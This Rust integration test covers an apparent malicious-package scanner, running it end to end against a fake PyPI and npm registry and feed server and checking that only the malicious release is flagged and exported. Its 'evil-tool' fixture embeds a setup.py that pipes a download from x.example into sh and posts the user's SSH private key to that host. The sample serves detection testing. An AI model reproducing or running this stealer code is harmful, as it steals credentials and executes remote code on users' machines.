//! ossprey as a service, end to end (issue 6's "done when"): one fake server plays
//! both the registries' new-release feeds (PyPI's RSS updates, npm's `_changes`) and
//! the registries themselves (PyPI's project JSON and files, npm's packuments and
//! tarballs). `ossprey watch --once` queues what the feeds announce, `ossprey worker`
//! fetches and scans each release through the real static pipeline, and `ossprey
//! query` / `ossprey export` read the stored results back: exactly the malicious
//! release comes out of `--verdict malicious` and the OSV export, every release out
//! of the JSONL export. Polling again changes nothing. Runs on SQLite and on a
//! throwaway PostgreSQL (`SKIP:` when PostgreSQL cannot start).
//!
//! The malicious package is an inert imitation (text in an archive, never run: the
//! jobs are of kind `scan`).

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Output};

use ossprey_store::Store;
use ossprey_testkit::archives::tar_gz;
use ossprey_testkit::postgres::PgServer;
use ossprey_testkit::{FakeServer, Reply};
use serde_json::{Value, json};

mod common;
use common::fake_registry::{serve_npm_tarball, serve_pypi_sdist};
use common::schema::validate;
use common::store::{jobs, scalar};

/// Where `--endpoint-base` makes the watcher read npm packuments; the worker's
/// `--npm-url` points there too, so one route serves both.
const NPM_PREFIX: &str = "/npm";

/// The fake registry + feeds server and what it serves.
struct World {
    server: FakeServer,
    /// sha256 of the malicious sdist as the fake PyPI publishes it.
    evil_sha: String,
    /// Every file a worker must download, once each.
    files: Vec<String>,
}

/// PyPI's `/rss/updates.xml`: newest first, one `<item>` per release, titled
/// `NAME VERSION`, as pypi.org serves it.
fn pypi_updates_rss(items: &[(&str, &str, &str)]) -> String {
    let mut rss = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <rss xmlns:dc=\"http://purl.org/dc/elements/1.1/\" version=\"2.0\">\n  <channel>\n\
         \x20   <title>PyPI recent updates</title>\n    <link>https://pypi.org/</link>\n\
         \x20   <description>Recent updates to the Python Package Index</description>\n\
         \x20   <language>en</language>\n",
    );
    for (name, version, date) in items {
        rss.push_str(&format!(
            "    <item>\n      <title>{name} {version}</title>\n\
             \x20     <link>https://pypi.org/project/{name}/{version}/</link>\n\
             \x20     <description></description>\n      <pubDate>{date}</pubDate>\n    </item>\n"
        ));
    }
    rss.push_str("  </channel>\n</rss>\n");
    rss
}

/// A page of npm's replication `_changes` feed: `(seq, id, rev)` rows and `last_seq`.
fn npm_changes(rows: &[(u64, &str, &str)], last_seq: u64) -> Reply {
    let results: Vec<Value> = rows
        .iter()
        .map(|(seq, id, rev)| json!({"seq": seq, "id": id, "changes": [{"rev": rev}]}))
        .collect();
    Reply::json(&json!({"results": results, "last_seq": last_seq}))
}

fn start_world() -> World {
    let server = FakeServer::start();
    let tidy = tar_gz(&[
        (
            "tidy-strings-1.2.0/PKG-INFO",
            b"Metadata-Version: 2.1\nName: tidy-strings\nVersion: 1.2.0\nSummary: Small string helpers\n",
        ),
        (
            "tidy-strings-1.2.0/tidy_strings/__init__.py",
            b"def squash(s):\n    \"\"\"Collapse runs of whitespace.\"\"\"\n    return \" \".join(s.split())\n",
        ),
    ]);
    // The classic install-time stealer: download-and-run, then the SSH key posted out.
    let evil = tar_gz(&[
        (
            "evil-tool-0.3.1/PKG-INFO",
            b"Metadata-Version: 2.1\nName: evil-tool\nVersion: 0.3.1\n",
        ),
        (
            "evil-tool-0.3.1/setup.py",
            b"import os\nimport urllib.request\nfrom setuptools import setup\n\n\
              os.system(\"curl http://x.example/p | sh\")\n\
              key = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n\
              urllib.request.urlopen(\"http://x.example/k\", data=key.encode())\n\n\
              setup(name=\"evil-tool\", version=\"0.3.1\")\n",
        ),
    ]);
    let left_trim = tar_gz(&[
        (
            "package/package.json",
            br#"{"name":"left-trim","version":"1.0.2","description":"Trim the left side of a string","main":"index.js","license":"MIT"}"#,
        ),
        (
            "package/index.js",
            b"module.exports = function leftTrim(s) {\n  return String(s).replace(/^\\s+/, \"\");\n};\n",
        ),
    ]);
    serve_pypi_sdist(&server, "tidy-strings", "1.2.0", tidy);
    let evil_sha = serve_pypi_sdist(&server, "evil-tool", "0.3.1", evil);
    // Published just now: the npm feed takes versions published since its last poll.
    let published = ossprey_store::format_time(time::OffsetDateTime::now_utc());
    let npm_tarball = serve_npm_tarball(
        &server,
        NPM_PREFIX,
        "left-trim",
        "1.0.2",
        &published,
        left_trim,
    );

    server.route(
        "/rss/updates.xml",
        vec![Reply::ok(pypi_updates_rss(&[
            ("evil-tool", "0.3.1", "Wed, 25 Nov 2026 17:40:14 GMT"),
            ("tidy-strings", "1.2.0", "Wed, 25 Nov 2026 17:40:12 GMT"),
        ]))],
    );
    server.route(
        "/registry/_changes",
        vec![
            // First poll (`since=now`): the head, nothing to follow yet.
            npm_changes(&[], 900),
            // Second poll: a publish, and a design document to ignore.
            npm_changes(
                &[
                    (901, "left-trim", "1-0f1e2d3c4b5a69788796a5b4c3d2e1f0"),
                    (902, "_design/app", "77-aa11bb22cc33dd44ee55ff6677889900"),
                ],
                902,
            ),
            // Every later poll: the package changes again (a dist-tag edit), so its
            // packument is read again and 1.0.2 is re-announced; it must not re-queue.
            npm_changes(
                &[(903, "left-trim", "2-1a2b3c4d5e6f708192a3b4c5d6e7f809")],
                903,
            ),
        ],
    );
    World {
        server,
        evil_sha,
        files: vec![
            "/files/tidy-strings-1.2.0.tar.gz".into(),
            "/files/evil-tool-0.3.1.tar.gz".into(),
            npm_tarball,
        ],
    }
}

/// Runs `ossprey ARGS` with its cache in `cache` and every registry on the fake
/// server (nothing can leave loopback); fails with stderr unless it exits 0.
fn ossprey(world: &World, cache: &Path, args: &[&str]) -> Output {
    let base = &world.server.base;
    let out = Command::new(env!("CARGO_BIN_EXE_ossprey"))
        .args(args)
        .env_remove("OSSPREY_DB")
        .env("OSSPREY_CACHE_DIR", cache)
        .env("OSSPREY_PYPI_URL", base)
        .env("OSSPREY_NPM_URL", format!("{base}{NPM_PREFIX}"))
        .env("OSSPREY_CRATES_INDEX_URL", format!("{base}/index"))
        .env("OSSPREY_RUBYGEMS_URL", base)
        .output()
        .expect("run ossprey");
    assert_eq!(
        out.status.code(),
        Some(0),
        "ossprey {args:?} failed; stderr:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn watch_once(world: &World, cache: &Path, db: &str) -> String {
    let out = ossprey(
        world,
        cache,
        &[
            "watch",
            "--once",
            "--kind",
            "scan",
            "--ecosystems",
            "pypi,npm",
            "--feeds",
            "pypi-rss-updates,npm-changes",
            "--retries",
            "0",
            "--db",
            db,
            "--endpoint-base",
            &world.server.base,
        ],
    );
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn work(world: &World, cache: &Path, db: &str) -> String {
    let base = &world.server.base;
    let npm = format!("{base}{NPM_PREFIX}");
    let out = ossprey(
        world,
        cache,
        &[
            "worker",
            "--concurrency",
            "2",
            "--exit-when-empty",
            "--kinds",
            "scan",
            "--poll-secs",
            "0.05",
            "--retries",
            "0",
            "--db",
            db,
            "--pypi-url",
            base,
            "--npm-url",
            &npm,
        ],
    );
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn json_lines(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

/// Result rows, and result rows each linked to the job that produced them.
fn result_counts(store: &Store) -> (i64, i64) {
    (
        scalar(store, "SELECT COUNT(*) FROM analyses"),
        scalar(
            store,
            "SELECT COUNT(*) FROM jobs j JOIN analyses a ON a.id = j.analysis_id AND a.job_id = j.id",
        ),
    )
}

const QUEUED: [&str; 3] = [
    "npm:left-trim@1.0.2 scan",
    "pypi:evil-tool@0.3.1 scan",
    "pypi:tidy-strings@1.2.0 scan",
];

fn watch_work_query_export(db: &str) {
    let world = start_world();
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let store = Store::open(db).unwrap();

    // Feeds → queue. npm's follower starts at the feed's head on its first poll, so
    // its publish is queued by the second.
    let log = watch_once(&world, &cache, db);
    assert_eq!(jobs(&store), QUEUED[1..], "{log}");
    let log = watch_once(&world, &cache, db);
    assert_eq!(jobs(&store), QUEUED, "{log}");

    // Queue → registries → static pipeline → stored results.
    let log = work(&world, &cache, db);
    let counts = store.queue_counts().unwrap();
    assert_eq!(
        (counts.done, counts.queued, counts.leased, counts.dead),
        (3, 0, 0, 0),
        "{log}"
    );
    assert_eq!(result_counts(&store), (3, 3), "{log}");
    for file in &world.files {
        assert_eq!(world.server.hits(file), 1, "{file} downloaded once\n{log}");
    }

    // query --verdict malicious: exactly the malicious release, as downloaded.
    let out = ossprey(
        &world,
        &cache,
        &[
            "query",
            "--db",
            db,
            "--verdict",
            "malicious",
            "--format",
            "json",
        ],
    );
    let found: Value = serde_json::from_slice(&out.stdout).unwrap();
    let found = found.as_array().unwrap();
    assert_eq!(found.len(), 1, "{found:#?}");
    let report = &found[0]["report"];
    assert_eq!(report["target"], "pypi:evil-tool@0.3.1", "{report:#}");
    assert_eq!(report["verdict"], "malicious");
    assert_eq!(report["sha256"], world.evil_sha.as_str());
    assert_eq!(
        report["artifact"]["source"]["verified_digest"],
        format!("sha256:{}", world.evil_sha)
    );

    // export --format osv: one valid OSV document, for it, with its indicator.
    let out = ossprey(&world, &cache, &["export", "--db", db, "--format", "osv"]);
    let osv: Value = serde_json::from_slice(&out.stdout).unwrap();
    let osv = osv.as_array().unwrap();
    assert_eq!(osv.len(), 1, "{osv:#?}");
    let doc = &osv[0];
    validate(doc, include_str!("schemas/osv-schema.json"), "OSV");
    assert!(doc["id"].as_str().unwrap().starts_with("MAL-"), "{doc:#}");
    let affected = &doc["affected"][0];
    assert_eq!(affected["package"]["ecosystem"], "PyPI");
    assert_eq!(affected["package"]["name"], "evil-tool");
    assert_eq!(affected["versions"], json!(["0.3.1"]));
    assert!(
        doc["database_specific"]["iocs"]["domains"]
            .as_array()
            .is_some_and(|d| d.contains(&json!("x.example"))),
        "{doc:#}"
    );

    // export --format jsonl: every release, one line each, with its verdict.
    let out = ossprey(&world, &cache, &["export", "--db", db, "--format", "jsonl"]);
    let records: BTreeSet<String> = json_lines(&out)
        .iter()
        .map(|r| {
            let p = &r["Package"];
            format!(
                "{}:{}@{} {}",
                p["Ecosystem"].as_str().unwrap_or("?"),
                p["Name"].as_str().unwrap_or("?"),
                p["Version"].as_str().unwrap_or("?"),
                r["Ossprey"]["verdict"].as_str().unwrap_or("?"),
            )
        })
        .collect();
    assert_eq!(
        records,
        BTreeSet::from([
            "npm:left-trim@1.0.2 benign".to_owned(),
            "pypi:evil-tool@0.3.1 malicious".to_owned(),
            "pypi:tidy-strings@1.2.0 benign".to_owned(),
        ])
    );

    // Polling again (npm re-announces left-trim) and working again: no new job, no
    // new result, nothing downloaded again.
    let packument = format!("{NPM_PREFIX}/left-trim");
    let reads = world.server.hits(&packument);
    let log = watch_once(&world, &cache, db);
    assert_eq!(
        world.server.hits(&packument),
        reads + 1,
        "the third poll must re-read the packument, or it proves nothing: {log}"
    );
    assert_eq!(jobs(&store), QUEUED, "{log}");
    let log = work(&world, &cache, db);
    assert_eq!(store.queue_counts().unwrap().done, 3, "{log}");
    assert_eq!(result_counts(&store), (3, 3), "{log}");
    for file in &world.files {
        assert_eq!(world.server.hits(file), 1, "{file} downloaded again\n{log}");
    }
}

#[test]
fn sqlite_watch_worker_query_export_end_to_end() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("service.db").display());
    watch_work_query_export(&db);
}

#[test]
fn postgres_watch_worker_query_export_end_to_end() {
    let pg = match PgServer::start() {
        Ok(pg) => pg,
        Err(why) => {
            println!("SKIP: {why}");
            return;
        }
    };
    let db = pg.create_database("service_e2e").expect("create database");
    watch_work_query_export(&db);
}
